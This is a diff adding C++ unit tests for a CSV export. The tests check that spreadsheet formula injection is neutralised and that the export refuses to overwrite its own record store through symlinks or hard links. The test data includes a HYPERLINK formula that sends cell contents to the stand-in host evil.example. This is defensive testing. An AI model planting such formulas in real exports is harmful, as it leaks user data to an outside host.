@@ -4,6 +4,7 @@
 #include <QTemporaryDir>
 #include <gtest/gtest.h>
 
+#include <filesystem>
 #include <fstream>
 #include <sstream>
 
@@ -66,14 +67,26 @@ protected:
         odd.rangeHigh = 1234.5;
         ASSERT_TRUE(s.Insert({Record(1000), odd, Record(3000)}, nullptr));
     }
+    std::string Text() const
+    {
+        std::ifstream in(csv, std::ios::binary);
+        std::stringstream text;
+        text << in.rdbuf();
+        return text.str();
+    }
     std::vector<std::vector<std::string>> Export(std::int64_t since, std::int64_t until)
     {
         const ExportResult result = ExportRecords(store, since, until, csv);
         EXPECT_TRUE(result.ok) << result.error;
-        std::ifstream in(csv, std::ios::binary);
-        std::stringstream text;
-        text << in.rdbuf();
-        return ParseCsv(text.str());
+        return ParseCsv(Text());
+    }
+    std::int64_t Stored() const
+    {
+        RecordStore s;
+        std::int64_t n = -1;
+        if (!s.Open(store, true, nullptr) || !s.Count(0, INT64_MAX, &n, nullptr))
+            ADD_FAILURE() << store << " cannot be read";
+        return n;
     }
     QTemporaryDir dir;
     std::string store, csv;
@@ -139,5 +152,82 @@ TEST_F(ExportTest, AMissingStoreOrAnUnwritableTargetFailsAndLeavesNoFile)
     r = ExportRecords(store, 0, INT64_MAX, csv, [&](std::int64_t, std::int64_t) { return ++calls < 0; });
     EXPECT_TRUE(r.ok); // fewer rows than a progress step: nothing to cancel
     EXPECT_EQ(r.rows, 3);
+}
+
+// Text that came from outside reaches a spreadsheet as text, never as a formula, and reads back as
+// it was.
+TEST_F(ExportTest, AFieldThatWouldStartAFormulaIsTakenAsText)
+{
+    const std::string link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    const struct {
+        std::string text, field;
+    } cases[] = {
+        {link, "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""},
+        {"+1+cmd", "\"'+1+cmd\""},
+        {"-2+3", "\"'-2+3\""},
+        {"@SUM(A1)", "\"'@SUM(A1)\""},
+        {"\t=1", "\"'\t=1\""},
+        {"\r=1", "\"'\r=1\""},
+        {"'=1", "\"''=1\""}, // an apostrophe of its own keeps it, so it reads back exactly
+        {"merrowin-demo", "merrowin-demo"},
+        {"a=b", "a=b"},
+        {"'quoted", "'quoted"},
+        {"", ""},
+    };
+    std::vector<TestRecord> records;
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.text);
+        EXPECT_EQ(CsvField(c.text), c.field);
+        TestRecord r = Record(static_cast<std::int64_t>(10000 + records.size()));
+        r.boardIdentity = r.stationId = r.boardKind = r.configHash = c.text;
+        records.push_back(r);
+    }
+    {
+        RecordStore s;
+        ASSERT_TRUE(s.Open(store, false, nullptr));
+        ASSERT_TRUE(s.Insert(records, nullptr));
+    }
+    const auto table = Export(10000, 20000);
+    ASSERT_EQ(table.size(), records.size() + 1);
+    EXPECT_EQ(table[1][4], "'" + link); // as a spreadsheet shows it
+    EXPECT_EQ(table[8][4], "merrowin-demo");
+
+    std::istringstream in(Text());
+    std::size_t i = 0;
+    std::string error;
+    EXPECT_TRUE(ReadCsvRecords(
+        in,
+        [&](const TestRecord& r) {
+            const TestRecord& w = records.at(i++);
+            EXPECT_EQ(r.boardIdentity, w.boardIdentity);
+            EXPECT_EQ(r.stationId, w.stationId);
+            EXPECT_EQ(r.configHash, w.configHash);
+            EXPECT_EQ(r.startMs, w.startMs);
+            EXPECT_EQ(r.values, w.values);
+            return true;
+        },
+        &error))
+        << error;
+    EXPECT_EQ(i, records.size());
+}
+
+// An export never replaces the records it reads, whatever name the target goes by.
+TEST_F(ExportTest, TheStoreItselfIsRefusedAsTheTarget)
+{
+    namespace fs = std::filesystem;
+    const std::string folder = dir.path().toStdString();
+    fs::create_directory(folder + "/sub");
+    fs::create_symlink(store, folder + "/link.csv");
+    fs::create_hard_link(store, folder + "/hard.csv");
+    fs::create_symlink(store + "-wal", folder + "/wal-link.csv");
+    for (const std::string& target : {store, folder + "/sub/../records.sqlite", folder + "/link.csv",
+                                      folder + "/hard.csv", store + "-wal", store + "-shm", folder + "/wal-link.csv"}) {
+        SCOPED_TRACE(target);
+        const ExportResult r = ExportRecords(store, 0, INT64_MAX, target);
+        EXPECT_FALSE(r.ok);
+        EXPECT_NE(r.error.find("where the test records are kept"), std::string::npos) << r.error;
+        EXPECT_EQ(Stored(), 3);
+    }
+    EXPECT_TRUE(ExportRecords(store, 0, INT64_MAX, folder + "/sub/../out.csv").ok);
 }
 } // namespace
